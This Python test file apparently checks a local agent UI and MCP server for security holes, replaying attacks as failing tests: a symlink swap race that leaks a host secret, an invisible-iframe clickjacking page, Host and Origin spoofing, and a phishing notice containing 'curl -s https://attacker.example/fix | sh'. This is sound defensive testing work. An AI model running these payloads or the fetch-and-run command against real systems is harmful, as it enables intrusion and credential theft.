"""A breaker's attacks on ``agent ui`` and ``agent mcp --transport http`` that get through the
network guards of ``core/netguard.py`` (each test FAILS while the hole is open).

Found against the real processes (``agent server --workers 1``, ``agent ui``, ``agent mcp notes
--transport http``, headless Chromium serving an attacker page from another local port); each case
here replays the attack on the real apps (``core.ui.app.create_app`` with Starlette's
``TestClient``, or the real ``agent mcp`` process, or real Chromium against a real uvicorn) with
the test plugin ``notes`` and a run it really finished.

- WB01: ``/runs/{id}/files/PATH`` checks the path (``data.artifact_path`` resolves links) and then
  ``FileResponse`` opens the path again by name: something writing in the run's folder (a live
  run's sandboxed command writes its workspace) that swaps the checked file for a symbolic link in
  between makes the UI serve any host file its user can read (measured on the real UI: a swap loop
  in a run's workspace leaked ``$HORIZON_HOME/server.token`` in 13 of 300 requests).
- WB02: the UI's pages may be framed by any page (no ``frame-ancestors``, no ``X-Frame-Options``):
  a page on another port of 127.0.0.1 is the same *site*, so its frame gets the
  ``SameSite=Strict`` cookie, the framed form posts with the UI's own ``Origin``, and one click of
  the user on the disguised frame applies a run's patch (clickjacking; real Chromium).
- WB03: a link loop or a NUL byte in the file route's path is an unhandled exception (500 and a
  traceback in the log) instead of a one-line 403/404.
- WB04: the ``note`` query parameter of ``/`` and ``/runs/{id}`` is shown as the UI's own notice:
  any site can link the user to the real UI showing a message it wrote (content spoofing).
- WB05: ``agent mcp --transport http`` accepts an ``Origin`` of any port of 127.0.0.1 or
  localhost, and ``Host`` values such as ``127.0.0.1:PORT@attacker.example``, while
  docs/security.md says a foreign ``Origin`` gets 403 (the SDK's ``host:*`` patterns are prefix
  matches).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from core.ui import data
from core.ui.app import create_app as ui_app
from tests.security.web import FIX, UI, finished_run, ui_token

SECRET = "host-secret-the-run-must-never-read-0123456789"




def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# --------------------------------------------------------------------------------------------
# WB01: the file route checks a path, then opens it again by name


@pytest.mark.attack(
    "WB01",
    "a run's folder holds workspace/report.html (a regular file, so /runs/ID/files/workspace/report.html passes the "
    "check that resolves links); between that check and FileResponse's open, the writer of the workspace swaps it for "
    "a symbolic link to a host file (outside every run: a secret of the user's)",
    "the UI serves the file it checked (or refuses): the host file's contents never come back",
)
def test_a_file_swapped_for_a_link_after_the_check_is_not_served(
    notes_plugin, notes_folder, horizon_home, tmp_path, monkeypatch, observe
):
    run_id = finished_run(horizon_home, notes_folder)
    secret = tmp_path / "user-secret.txt"  # outside the run's folder: what a link planted in the workspace points at
    secret.write_text(SECRET + "\n")
    report = data.run_folder(run_id, horizon_home) / "workspace" / "report.html"
    report.write_text("<p>the run's report</p>\n")

    checked = data.artifact_path

    def checked_then_swapped(run: str, relative: str, home: Path | None = None) -> Path:
        """The real check; then the swap a concurrent writer makes at the worst moment (measured on the real UI:
        a loop of atomic renames in a run's workspace won this race in 13 of 300 requests)."""
        path = checked(run, relative, home)
        link = path.with_name(".swap")
        os.symlink(secret, link)
        os.replace(link, path)
        return path

    monkeypatch.setattr(data, "artifact_path", checked_then_swapped)
    client = TestClient(ui_app(horizon_home), base_url=UI, raise_server_exceptions=False)
    answer = client.get(f"/runs/{run_id}/files/workspace/report.html")
    observe(
        f"GET /runs/ID/files/workspace/report.html after the swap: {answer.status_code}, "
        f"{'the host secret came back' if SECRET in answer.text else 'no secret'}: {answer.text[:60]!r}"
    )
    assert SECRET not in answer.text, "the UI served a host file through a link swapped in after its check"


# --------------------------------------------------------------------------------------------
# WB02: clickjacking from another port of 127.0.0.1 (the same site)


def _html_pages(run_id: str) -> list[str]:
    return ["/", f"/runs/{run_id}", f"/runs/{run_id}/apply", "/evals"]


@pytest.mark.attack(
    "WB02",
    "frame the UI's pages (runs, a run, the apply review with its confirm button, evaluations) from a page of another "
    "origin: are they served with frame-ancestors or X-Frame-Options?",
    "every HTML page forbids framing by other origins (CSP frame-ancestors 'self' or 'none', or X-Frame-Options)",
)
def test_the_ui_pages_cannot_be_framed_by_another_origin(notes_plugin, notes_folder, horizon_home, observe):
    run_id = finished_run(horizon_home, notes_folder)
    client = TestClient(ui_app(horizon_home), base_url=UI)
    seen = []
    for path in _html_pages(run_id):
        answer = client.get(path)
        assert answer.status_code == 200, (path, answer.status_code)
        policy = answer.headers.get("content-security-policy", "")
        frames = answer.headers.get("x-frame-options", "").upper()
        ancestors = re.search(r"frame-ancestors ([^;]*)", policy)
        guarded = (ancestors is not None and set(ancestors.group(1).split()) <= {"'self'", "'none'"}) or frames in (
            "DENY",
            "SAMEORIGIN",
        )
        seen.append((path, guarded, policy, frames))
    observe("; ".join(f"{path}: {'guarded' if guarded else 'frameable'}" for path, guarded, _, _ in seen))
    assert all(guarded for _, guarded, _, _ in seen), [s for s in seen if not s[1]]


ATTACKER_PAGE = """<html><body><h1>Claim your prize: click the button</h1>
<iframe id="bait" src="{ui}/runs/{run_id}/apply" width="1200" height="900" style="opacity:0.01"></iframe></body></html>"""


@pytest.mark.attack(
    "WB02b",
    "real Chromium: the user has the UI open; a page on another port of 127.0.0.1 (the same site, e.g. any local dev "
    "server showing third-party content) frames the UI's apply review invisibly, and the user clicks where it says",
    "the frame does not show (frame-ancestors) or its form is refused: the repository keeps ANSWER.txt 'todo'",
)
def test_a_same_site_page_cannot_clickjack_the_apply_button_in_chromium(
    notes_plugin, notes_folder, horizon_home, tmp_path, observe
):
    playwright = pytest.importorskip("playwright.async_api")
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("no chromium on PATH")
    import asyncio

    import uvicorn

    run_id = finished_run(horizon_home, notes_folder)
    ui_port, evil_port = free_port(), free_port()
    ui_base = f"http://127.0.0.1:{ui_port}"
    server = uvicorn.Server(uvicorn.Config(ui_app(horizon_home), host="127.0.0.1", port=ui_port, log_level="warning"))
    ui_thread = threading.Thread(target=server.run, daemon=True)
    ui_thread.start()
    site = tmp_path / "attacker-site"
    site.mkdir()
    (site / "prize.html").write_text(ATTACKER_PAGE.format(ui=ui_base, run_id=run_id))
    evil = ThreadingHTTPServer(("127.0.0.1", evil_port), partial(SimpleHTTPRequestHandler, directory=str(site)))
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    try:
        for _ in range(100):
            if server.started:
                break
            time.sleep(0.1)

        async def attack() -> str:
            async with playwright.async_playwright() as p:
                browser = await p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
                try:
                    page = await browser.new_page()
                    await page.goto(f"{ui_base}/")  # the user's own tab: the browser has the UI's cookie
                    await page.goto(f"http://127.0.0.1:{evil_port}/prize.html")
                    frame = page.frame_locator("#bait")
                    try:
                        await frame.locator("#confirm-apply").click(timeout=5000)  # the user's click, on the bait
                    except playwright.Error as exc:
                        return f"no button to click in the frame ({type(exc).__name__})"
                    await page.wait_for_timeout(1500)
                    return (await frame.locator("body").inner_text(timeout=5000))[:160]
                finally:
                    await browser.close()

        shown = asyncio.run(attack())
    finally:
        evil.shutdown()
        server.should_exit = True
        ui_thread.join(10)
    answer = (notes_folder / "ANSWER.txt").read_text()
    observe(f"after the click in the frame: {' '.join(shown.split())!r}; ANSWER.txt {answer.strip()!r}")
    assert answer == "todo\n", f"a page of another origin applied the patch through a framed UI page: {shown!r}"


# --------------------------------------------------------------------------------------------
# WB03: bad paths of the file route are unhandled exceptions


@pytest.mark.attack(
    "WB03",
    "ask the file route for a link loop a run planted (loop.png -> loop.png) and for a path with a NUL byte (ok.html%00.png)",
    "a one-line 403 or 404 each, no server error",
)
def test_the_file_route_answers_a_link_loop_and_a_nul_byte_with_a_refusal(notes_plugin, notes_folder, horizon_home, observe):
    run_id = finished_run(horizon_home, notes_folder)
    folder = data.run_folder(run_id, horizon_home)
    os.symlink("loop.png", folder / "workspace" / "loop.png")
    (folder / "ok.html").write_text("<p>ok</p>\n")
    client = TestClient(ui_app(horizon_home), base_url=UI, raise_server_exceptions=False)
    answers = {name: client.get(f"/runs/{run_id}/files/{name}") for name in ("workspace/loop.png", "ok.html%00.png")}
    observe("; ".join(f"{name}: {a.status_code} {a.text[:50]!r}" for name, a in answers.items()))
    for name, answer in answers.items():
        assert answer.status_code in (400, 403, 404), (name, answer.status_code, answer.text[:200])
        assert len(answer.text.strip().splitlines()) == 1 and "Internal Server Error" not in answer.text, answer.text


# --------------------------------------------------------------------------------------------
# WB04: any site writes the UI's notices


PHISH = "Horizon needs to re-authorise this machine: run curl -s https://attacker.example/fix | sh in a terminal"


@pytest.mark.attack(
    "WB04",
    "a link from any site to the real UI, /?note=TEXT and /runs/ID?note=TEXT, TEXT being the attacker's instructions",
    "the UI shows only notices it wrote itself (after its own actions), never text taken from the URL",
)
def test_a_link_cannot_make_the_ui_show_a_notice_of_its_own_text(notes_plugin, notes_folder, horizon_home, observe):
    run_id = finished_run(horizon_home, notes_folder)
    client = TestClient(ui_app(horizon_home), base_url=UI)
    answers = {path: client.get(path, params={"note": PHISH}) for path in ("/", f"/runs/{run_id}")}
    observe(
        "; ".join(
            f"{path}?note=...: {a.status_code}, {'shown' if PHISH in a.text else 'not shown'}" for path, a in answers.items()
        )
    )
    for path, answer in answers.items():
        assert answer.status_code == 200
        assert PHISH not in answer.text, f"{path} shows the URL's text as its own notice"


# --------------------------------------------------------------------------------------------
# WB05: agent mcp --transport http and other local origins


@pytest.fixture
def mcp_http(notes_plugin, notes_folder, horizon_home):
    """``agent mcp notes --transport http`` on a free port of 127.0.0.1 (a real process); yields its endpoint."""
    port = free_port()
    process = subprocess.Popen([sys.executable, "-c", "from core.cli import main; main()", "mcp", "notes", "--repo", str(notes_folder),
                                "--transport", "http", "--port", str(port)],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env={**os.environ})  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if process.poll() is not None:
                pytest.fail(f"agent mcp ended: {process.stderr.read().decode()[-500:]}")
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
                break
            except OSError:
                time.sleep(0.2)
        yield f"http://127.0.0.1:{port}/mcp", port
    finally:
        process.terminate()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


INITIALIZE = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "initialize",
    "params": {"protocolVersion": "2025-03-26", "capabilities": {}, "clientInfo": {"name": "breaker", "version": "1"}},
}


@pytest.mark.attack(
    "WB05",
    "POST an MCP initialize to agent mcp --transport http with the Origin of another local web app "
    "(http://127.0.0.1:9999, http://localhost:9999) and with Host values that only start like this machine's "
    "(127.0.0.1:PORT@attacker.example, 127.0.0.1:PORT.attacker.example)",
    "403 for each foreign Origin and 421 for each such Host, as docs/security.md says; the server's own Origin is served",
)
def test_agent_mcp_http_refuses_other_local_origins_and_look_alike_hosts(mcp_http, observe):
    import httpx

    url, port = mcp_http
    headers = {"accept": "application/json, text/event-stream", "content-type": "application/json"}
    body = json.dumps(INITIALIZE)
    own = httpx.post(url, headers={**headers, "origin": f"http://127.0.0.1:{port}"}, content=body, timeout=30)
    assert own.status_code == 200, own.text[:200]  # control: the client the docs describe works
    answers = {}
    for origin in ("http://127.0.0.1:9999", "http://localhost:9999"):
        answers[f"Origin {origin}"] = httpx.post(url, headers={**headers, "origin": origin}, content=body, timeout=30).status_code
    for host in (f"127.0.0.1:{port}@attacker.example", f"127.0.0.1:{port}.attacker.example"):
        answers[f"Host {host}"] = httpx.post(url, headers={**headers, "host": host}, content=body, timeout=30).status_code
    observe(f"own Origin: {own.status_code}; " + "; ".join(f"{k}: {v}" for k, v in answers.items()))
    for name, status in answers.items():
        assert status == (403 if name.startswith("Origin") else 421), (name, status)


# --------------------------------------------------------------------------------------------
# WB06: agent ui bound to every address trusts a Host header any peer can write


def _network_address() -> str | None:
    """This machine's address on its network (not loopback), None when it has none."""
    for target in ("203.0.113.1", "10.255.255.254"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.connect((target, 9))  # no packet is sent: only the route is looked up
                address = s.getsockname()[0]
            except OSError:
                continue
        if not address.startswith("127.") and address != "0.0.0.0":
            return address
    return None


@pytest.mark.attack(
    "WB06",
    "agent ui --host 0.0.0.0 (started without a word of warning): a client on the network connects to the "
    "machine's network address; with that address as Host it gets 421, so it sends Host: 127.0.0.1:PORT instead, "
    "reads the runs page (cookie, form token) and posts the start form",
    "agent ui refuses to listen beyond loopback without a login (or a loopback Host from a non-loopback peer is "
    "refused): nothing is served to the network client, nothing queued",
)
def test_agent_ui_on_every_address_does_not_serve_a_forged_loopback_host(
    notes_plugin, notes_folder, horizon_home, tmp_path, observe
):
    import httpx

    from core.service.queue import RunQueue, queue_path

    address = _network_address()
    if address is None:
        pytest.skip("this machine has no network address besides loopback")
    script = tmp_path / "fix.jsonl"
    script.write_text("".join(json.dumps(call) + "\n" for call in FIX))
    port = free_port()
    process = subprocess.Popen([sys.executable, "-c", "from core.cli import main; main()", "ui", "--host", "0.0.0.0", "--port", str(port)],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env={**os.environ})  # fmt: skip
    try:
        deadline, listening = time.monotonic() + 60, False
        while time.monotonic() < deadline and process.poll() is None:
            try:
                socket.create_connection((address, port), timeout=0.5).close()
                listening = True
                break
            except OSError:
                time.sleep(0.2)
        if not listening:
            output = process.stdout.read().decode() if process.poll() is not None else ""
            observe(f"agent ui --host 0.0.0.0 did not serve: exit {process.poll()}: {output.strip()[-160:]!r}")
            return  # refused to listen beyond loopback: the fix this case accepts
        peer = httpx.Client(base_url=f"http://{address}:{port}", timeout=30)
        honest = peer.get("/").status_code
        forged = peer.get("/", headers={"host": f"127.0.0.1:{port}"})
        token = ui_token(forged.text)
        started = None
        if token:
            form = {
                "plugin": "notes",
                "task": "queued from the network",
                "repo": str(notes_folder),
                "policy": "scripted",
                "script": str(script),
                "csrf": token,
            }
            started = peer.post("/runs", data=form, headers={"host": f"127.0.0.1:{port}"}, follow_redirects=False).status_code
        queued = RunQueue(queue_path(horizon_home)).rows() if queue_path(horizon_home).is_file() else []
        observe(
            f"from {address}: Host {address}:PORT -> {honest}; Host 127.0.0.1:PORT -> {forged.status_code} "
            f"(form token {'read' if token else 'not read'}); POST /runs -> {started}; queued: {len(queued)}"
        )
        assert forged.status_code != 200 and token is None, "a network client read the UI by writing Host: 127.0.0.1"
        assert queued == []
    finally:
        process.terminate()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


# --------------------------------------------------------------------------------------------
# WB07: $HORIZON_HOME made readable by every user


def _others_can_read(path: Path, top: Path) -> bool:
    """Whether a user other than the owner (and not in its group) can read ``path``: every folder below ``top``
    down to it searchable by others (``top`` itself, outside ``$HORIZON_HOME``, is the user's business), and the file
    readable by them."""
    import stat

    if not os.stat(path).st_mode & stat.S_IROTH:
        return False
    for folder in path.parents:
        if folder == top:
            return True
        if not os.stat(folder).st_mode & stat.S_IXOTH:
            return False
    raise ValueError(f"{path} is not under {top}")


@pytest.mark.attack(
    "WB07",
    "with the usual umask 022, the first command (agent run) makes $HORIZON_HOME; then another user of the machine "
    "reads the run store (tasks, model outputs, tool outputs), the copied repository and the service's queue "
    "that agent server (whose token file is 0600) serves only with its token",
    "$HORIZON_HOME (or runs/ and service/) is made 0700: no run's trajectory, workspace or queue is readable by others",
)
def test_horizon_home_is_not_readable_by_other_users(notes_plugin, notes_folder, horizon_home, observe):
    from core.service.queue import RunQueue, queue_path

    old = os.umask(0o022)
    try:
        run_id = finished_run(horizon_home, notes_folder)
        RunQueue(queue_path(horizon_home)).submit({"plugin": "notes", "task": "a private task", "repo": str(notes_folder),
                                                   "policy": {"kind": "scripted"}})  # fmt: skip
    finally:
        os.umask(old)
    folder = data.run_folder(run_id, horizon_home)
    exposed = [
        p
        for p in (folder / "trajectory.duckdb", folder / "workspace" / "ANSWER.txt", queue_path(horizon_home))
        if p.exists() and _others_can_read(p, horizon_home.parent)
    ]
    observe(
        f"$HORIZON_HOME mode {os.stat(horizon_home).st_mode & 0o777:o}; readable by other users: "
        f"{[str(p.relative_to(horizon_home)) for p in exposed] or 'nothing'}"
    )
    assert exposed == [], exposed


# --------------------------------------------------------------------------------------------
# WB08: two first starts at once


def _start_token(path: str, barrier: Any, results: Any) -> None:
    from core.errors import UserError
    from core.netguard import server_token

    barrier.wait()
    try:
        results.put(("token", server_token(Path(path))))
    except UserError as exc:
        results.put(("refused", str(exc)))


@pytest.mark.attack(
    "WB08",
    "two agent server processes start at the same moment on a fresh $HORIZON_HOME (a service manager restarting it, "
    "a user starting it twice): both make or read server.token (40 such pairs, each in a fresh folder)",
    "both get the same token, or the second says a server is starting there; never 'remove it' or 'delete it' about "
    "the token the first one is serving with, and never a half-written file read as a bad token",
)
def test_two_first_starts_agree_on_the_token(tmp_path, observe):
    import multiprocessing

    context = multiprocessing.get_context("fork")
    misleading = []
    for trial in range(40):
        folder = tmp_path / f"home{trial}"
        folder.mkdir(mode=0o700)
        barrier, results = context.Barrier(2), context.Queue()
        starts = [context.Process(target=_start_token, args=(str(folder / "server.token"), barrier, results)) for _ in range(2)]
        for process in starts:
            process.start()
        outcomes = [results.get(timeout=60) for _ in starts]
        for process in starts:
            process.join(30)
        tokens = {text for kind, text in outcomes if kind == "token"}
        assert len(tokens) <= 1, "two different tokens for one file"
        misleading += [text for kind, text in outcomes if kind == "refused" and re.search(r"\b(remove|delete) it\b", text)]
    observe(
        f"40 simultaneous first starts: {len(misleading)} refused with advice to remove the live token file"
        + (f", e.g. {misleading[0][:120]!r}" if misleading else "")
    )
    assert misleading == [], misleading[:3]
